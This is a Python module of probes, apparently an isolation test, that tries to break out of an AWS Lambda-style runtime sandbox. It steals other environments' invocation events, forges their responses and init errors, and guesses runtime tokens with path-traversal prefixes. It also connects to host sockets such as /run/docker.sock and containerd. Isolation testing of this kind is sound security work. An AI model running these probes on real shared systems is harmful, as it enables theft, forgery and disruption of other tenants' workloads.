"""Ways to other environments, and to processes of the host, by their sockets."""

import http.client
import os
import socket
import time

from trying import way


def listening() -> set[tuple[str, int]]:
    """Addresses of this network namespace where somebody listens."""
    found = set()
    for name in ("tcp", "tcp6"):
        try:
            lines = open(f"/proc/net/{name}").readlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == "0A":
                found.add(("127.0.0.1" if name == "tcp" else "::1", int(fields[1].rsplit(":", 1)[1], 16)))
    return found


def other_runtime_ports(targets) -> list[tuple[str, int]]:
    own = int(os.environ["AWS_LAMBDA_RUNTIME_API"].rsplit(":", 1)[1].partition("/")[0])
    api = int(targets["api"].rsplit(":", 1)[1])
    known = {("127.0.0.1", port) for port in targets["runtime_ports"]}
    return sorted(one for one in (listening() if not known else known & listening() | known) if one[1] not in (own, api))


def runtime_call(place, method: str, path: str, body: bytes = b"", wait: float = 0.3) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection(*place, timeout=wait)
    connection.request(method, f"/2018-06-01/runtime/{path}", body, {"Content-Type": "application/json"})
    answer = connection.getresponse()
    return answer.status, answer.read()


@way("take the events of another environment")
def _(targets):
    got = []
    until = time.monotonic() + 1.5
    while time.monotonic() < until:
        for place in other_runtime_ports(targets):
            try:
                status, text = runtime_call(place, "GET", "invocation/next")
                if status == 200:
                    got.append(f"{place}: {text[:100]}")
            except OSError as failure:
                if isinstance(failure, TimeoutError):
                    got.append(f"{place}: was let wait for the next event")
            except http.client.HTTPException:
                pass
        if got:
            return got
        time.sleep(0.05)
    return ""


@way("answer for another environment")
def _(targets):
    got = []
    for place in other_runtime_ports(targets):
        for action in ("response", "error"):
            for request in targets["requests"]:
                try:
                    status, text = runtime_call(place, "POST", f"invocation/{request}/{action}", b'"forged"')
                except (OSError, http.client.HTTPException):
                    continue
                if status < 300:
                    got.append(f"{place} {action}: {status} {text[:100]}")
    return got


@way("end another environment by an error of its start")
def _(targets):
    got = []
    for place in other_runtime_ports(targets):
        try:
            status, _ = runtime_call(place, "POST", "init/error", b'{"errorMessage":"forged"}')
        except (OSError, http.client.HTTPException):
            continue
        if status < 300:
            got.append(f"{place}: {status}")
    return got


@way("use another environment's Runtime API with guesses at its token")
def _(targets):
    got = []
    rest = os.environ["AWS_LAMBDA_RUNTIME_API"].partition("/")[2]
    for place in other_runtime_ports(targets):
        for prefix in filter(None, (rest, rest[:-1], rest + "0", "..", "%2e%2e", ".", "/")):
            connection = http.client.HTTPConnection(*place, timeout=0.3)
            try:
                connection.request("GET", f"/{prefix}/2018-06-01/runtime/invocation/next")
                answer = connection.getresponse()
                if answer.status == 200:
                    got.append(f"{place} {prefix}: {answer.read()[:100]}")
            except (OSError, http.client.HTTPException) as failure:
                if isinstance(failure, TimeoutError):
                    got.append(f"{place} {prefix}: was let wait")
    return got


@way("reach abstract sockets of the host")
def _(targets):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(2)
        connection.connect("\0" + targets["abstract"])
        return connection.recv(100)


@way("reach named sockets of the host")
def _(targets):
    got = []
    for path in (targets["unix"], "/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock",
                 "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/journal/stdout", "/dev/log"):
        try:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.connect(path)
                got.append(path)
        except OSError:
            pass
    return got
